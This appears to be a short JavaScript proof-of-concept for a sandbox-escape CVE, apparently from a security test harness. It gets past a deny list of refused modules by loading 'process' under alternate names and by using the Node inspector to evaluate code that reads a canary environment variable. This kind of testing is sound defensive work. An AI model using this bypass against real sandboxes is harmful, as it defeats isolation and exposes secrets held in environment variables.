// CVE-2026-47140
// Builtins under other names than a list of refused ones has.
const load = typeof require === 'function' ? require : (name) => { throw new Error(name); };
try { await useProcess(load('process')); } catch {}
try { await useProcess(load('node:process')); } catch {}
try {
    const session = new (load('inspector/promises').Session)();
    session.connect();
    const { result } = await session.post('Runtime.evaluate', { expression: `process.env[${JSON.stringify(GOAL.canary)}]` });
    note(result.value);
} catch {}
return found;
